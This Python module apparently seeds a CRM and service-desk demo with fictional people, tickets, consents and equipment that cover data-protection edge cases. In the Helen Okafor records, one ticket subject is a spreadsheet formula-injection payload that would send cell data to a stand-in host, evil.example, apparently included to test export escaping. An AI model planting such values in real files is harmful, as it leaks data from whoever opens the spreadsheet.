"""The records of the people in ``people.PEOPLE``. Days are told from today."""

from __future__ import annotations

from datetime import date, timedelta

from dev.demo import tables as t
from dev.demo.records import (
    contact,
    customer,
    equipment,
    portal_user,
    preference,
    ticket,
)
from dev.demo.rows import Rows

EDITHS_ADDRESS = "14 Orchard Close, Hemel Hempstead HP1 2ZZ"
EDITHS_PHONE = "01632 960 014"


def add_stories(rows: Rows, today: date) -> None:
    """Add every named person."""
    for add in (
        _maggie,
        _tom,
        _priya,
        _gareth,
        _sally,
        _derek,
        _helen,
        _ian,
        _alice_and_bob,
        _edith,
    ):
        add(rows, today)


def _maggie(rows: Rows, today: date) -> None:
    email, name = "maggie.holloway@harbourlights.example", "Maggie Holloway"
    contact(
        rows,
        today,
        first_name="Maggie",
        last_name="Holloway",
        email=email,
        private_email="maggie.h@post.example",
        mobile="07700 900101",
        company_id="C-4401",
        company_name="Harbour Lights",
        job_title="Office manager (left in June)",
        manager="Colin Frost",
        note="Has left. Colin Frost reads her old mailbox.",
        last_contact=today - timedelta(days=10),
    )
    # Six weeks ago from the old address: her manager's words, not hers.
    ticket(
        rows,
        email,
        name,
        "New telephone",
        "Colin Frost rang: please send the telephone to him.",
        company_id="C-4401",
        opened_on=today - timedelta(days=42),
    )
    portal_user(rows, email, today, company_id="C-4401")
    equipment(
        rows, email, today, serial_number="LX-10177", device_id="IMEI-INVENTED-01"
    )


def _tom(rows: Rows, today: date) -> None:
    email, mobile = "tom@ashdownjoinery.example", "07700 900102"
    tom = contact(
        rows,
        today,
        first_name="Tom",
        last_name="Ashdown",
        email=email,
        mobile=mobile,
        company_name="Tom Ashdown, joiner",
        job_title="Owner",
        source="website",
        source_evidence="newsletter form",
    )
    for channel, wanted in (("email", True), ("phone", False), ("post", True)):
        preference(rows, tom, channel=channel, wanted=wanted, since=date(2024, 3, 2))
    customer(
        rows,
        range(2024, 2027),
        today,
        unpaid=True,
        name="Tom Ashdown",
        email=email,
        phone=mobile,
        address="Unit 3, Sawpit Yard, Berkhamsted",
        kind="sole trader",
        since=date(2024, 1, 8),
    )


def _priya(rows: Rows, today: date) -> None:
    contact(
        rows,
        today,
        first_name="Priya",
        last_name="Raman",
        email="priya.raman@post.example",
        source_evidence="signed in at reception",
        note="Visitor. Finch & Co, solicitors (cases@finchandco.example), act for her.",
        last_contact=today - timedelta(days=21),
    )


def _gareth(rows: Rows, today: date) -> None:
    found_on = today - timedelta(days=50)
    contact(
        rows,
        today,
        first_name="Gareth",
        last_name="Bevan",
        email="gareth@bevanlogistics.example",
        company_name="Bevan Logistics",
        job_title="Managing director",
        social_handle="@garethbevan.invented",
        source="public-source",
        source_evidence=f"https://bevanlogistics.example/about, seen on {found_on}",
        obtained_on=found_on,
        last_contact=None,
    )


def _sally(rows: Rows, today: date) -> None:
    sally = contact(
        rows,
        today,
        title="Ms",
        first_name="Sally",
        last_name="Whitcombe",
        email="sally@whitcombe.example",
        mobile="+44 7700 900105",
        company_name="Sally Whitcombe Bookkeeping",
        job_title="Owner",
        home_address="2 Mill Lane, Tring",
        date_of_birth=date(1979, 4, 17),
    )
    rows.add(
        t.personalisation,
        contact_id=sally,
        nickname="Sal",
        hobbies="Fell running, choir",
        partner_first_name="Ruth",
        children_first_names="Oscar, Isla",
        consented_on=date(2022, 6, 1),
    )
    # The same person, spelt another way: capitals here, no spaces there.
    customer(
        rows,
        range(2020, 2027),
        today,
        name="Sally Whitcombe",
        email="Sally@Whitcombe.example",
        phone="07700900105",
        address="2 Mill Lane, Tring",
        kind="sole trader",
        since=date(2020, 1, 6),
    )


def _derek(rows: Rows, today: date) -> None:
    contact(
        rows,
        today,
        first_name="Derek",
        last_name="Munro",
        email="derek.munro@castlegate.example",
        company_name="Castlegate",
        job_title="Junior buyer",
        note="Never pays on time, and rude with it. Keep it short.",
    )


def _helen(rows: Rows, today: date) -> None:
    email, name = "helen.okafor@brightwater.example", "Helen Okafor"
    company = {"company_id": "C-4407"}
    contact(
        rows,
        today,
        first_name="Helen",
        last_name="Okafor",
        email=email,
        company_name="Brightwater",
        job_title="IT coordinator",
        **company,
    )
    for days_ago, subject, bodies in (
        (300, '=HYPERLINK("https://evil.example?"&A1,"Printer")', ("Fixed.",)),
        (
            120,
            "Laptop will not wake",
            (
                "If Helen is out, ring her colleague Marcus Webb on 07700 900177.",
                "Battery replaced.",
            ),
        ),
    ):
        opened_on = today - timedelta(days=days_ago)
        ticket(rows, email, name, subject, *bodies, opened_on=opened_on, **company)
    # Brightwater's own helpdesk runs on our service desk: its data, not ours (D13).
    ticket(
        rows,
        email,
        name,
        "New starter on Monday",
        held_for="Brightwater",
        opened_on=today - timedelta(days=60),
        **company,
    )
    portal_user(rows, email, today, **company)
    equipment(
        rows, email, today, serial_number="LX-99031", device_id="IMEI-INVENTED-02"
    )
    equipment(
        rows,
        email,
        today,
        serial_number="BW-00017",
        device="Telephone",
        held_for="Brightwater",
    )


def _ian(rows: Rows, today: date) -> None:
    email = "ian.pettigrew@post.example"
    ian = contact(
        rows,
        today,
        first_name="Ian",
        last_name="Pettigrew",
        email=email,
        mobile="07700 900108",
        source="referral",
        source_evidence="Referred by Tom Ashdown, who had asked him first",
    )
    since = today - timedelta(days=700)
    preference(rows, ian, channel="email", wanted=False, since=since)
    ticket(
        rows,
        email,
        "Ian Pettigrew",
        "Where is my router?",
        "Sent again.",
        opened_on=today - timedelta(days=200),
    )


def _alice_and_bob(rows: Rows, today: date) -> None:
    company_id, office = "C-4410", "office@meridianpartners.example"
    shared = {
        "company_id": company_id,
        "company_name": "Meridian Partners",
        "switchboard": "020 7946 0999",
        "office_email": office,
        "work_address": "9 Meridian Row, London E1",
    }
    for first, last, job in (
        ("Alice", "Norton", "Partner"),
        ("Bob", "Tranter", "Clerk"),
    ):
        email, name = (
            f"{first}.{last}@meridianpartners.example".lower(),
            f"{first} {last}",
        )
        contact(
            rows,
            today,
            first_name=first,
            last_name=last,
            email=email,
            job_title=job,
            **shared,
        )
        ticket(
            rows,
            email,
            name,
            f"{first}'s mailbox is full",
            "Archived.",
            company_id=company_id,
            opened_on=today - timedelta(days=90),
        )
        portal_user(rows, email, today, company_id=company_id)
    ticket(
        rows,
        office,
        "Meridian Partners",
        "The line is down",
        company_id=company_id,
        opened_on=today - timedelta(days=80),
    )


def _edith(rows: Rows, today: date) -> None:
    customer(
        rows,
        range(2019, 2027),
        today,
        name="Edith Marlow",
        phone=EDITHS_PHONE,
        address=EDITHS_ADDRESS,
        kind="individual",
        since=date(2019, 1, 3),
    )
